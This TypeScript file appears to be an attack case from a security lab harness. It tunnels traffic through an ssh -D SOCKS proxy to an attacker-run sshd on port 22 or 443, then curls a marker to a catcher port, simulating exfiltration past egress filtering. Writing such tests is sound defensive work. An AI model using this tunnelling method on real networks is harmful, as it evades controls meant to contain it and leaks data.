/** ssh(1) -D: a SOCKS proxy at the attacker's. Its server is OpenSSH's own, so its banner is as good as that of an allowed host. */
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Attack } from "../case.ts";
import { runTool } from "../../lab/tools.ts";
import { bracketed } from "../job.ts";
import { catcherPort, ownRunScript } from "./attacker.ts";
import { deliver, nameless, toolCase, withClient, type Ends } from "./tool.ts";

const localPort = 2204;

function keysOf({ attacker }: Ends): Promise<{ host: string; user: string }> {
  return attacker.once("ssh keys", async () => {
    const directory = attacker.directory("ssh");
    const [host, user] = [join(directory, "host"), join(directory, "user")];
    for (const file of [host, user]) await runTool("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", file]);
    return { host, user };
  });
}

async function server(ends: Ends, port: number): Promise<void> {
  const { attacker, address, name } = ends;
  const { host, user } = await keysOf(ends);
  const lines = [
    ...[`ListenAddress ${bracketed(address)}:${port}`, `HostKey ${host}`, `AuthorizedKeysFile ${user}.pub`],
    ...["PermitRootLogin prohibit-password", "StrictModes no", "UsePAM no", "UseDNS no", "PidFile none"],
  ];
  const file = join(attacker.directory(name), "sshd_config");
  writeFileSync(file, `${lines.join("\n")}\n`);
  // It separates privileges in a folder of /run.
  const args = ["-c", ownRunScript, "run", attacker.machine.home, "/usr/sbin/sshd", "-D", "-e", "-f", file];
  await attacker.spawn("sh", args, /Server listening on/);
}

function ssh(n: number, how: string, port: number, prepare?: (ends: Ends) => Promise<unknown>): Attack {
  return toolCase({
    variant: `ssh -D: ${how}`,
    n,
    server: (ends) => server(ends, port),
    client: async (ends) => {
      const { job, address, marker } = ends;
      const { user } = await keysOf(ends);
      await prepare?.(ends);
      const options = [
        "StrictHostKeyChecking=no",
        "UserKnownHostsFile=/dev/null",
        "BatchMode=yes",
        "IdentitiesOnly=yes",
      ];
      const args = [
        ...["-F", "none", "-v", "-N", "-D", `127.0.0.1:${localPort}`, "-i", user, "-p", String(port)],
        ...[...options.flatMap((option) => ["-o", option]), `root@${address}`],
      ];
      const proxy = ["-sS", "--max-time", "4", "--socks5-hostname", `127.0.0.1:${localPort}`];
      await withClient(ends, "ssh", args, /Entering interactive session/, () =>
        deliver(ends, () => job.exec("curl", [...proxy, `http://127.0.0.1:${catcherPort}/${marker}`])),
      );
    },
    ...nameless(n, port, "tcp"),
  });
}

export const sshCases: Attack[] = [
  ssh(159, "port 22, when another host may be reached there", 22, ({ job }) => job.resolve("ssh.example")),
  ssh(160, "port 443", 443),
];
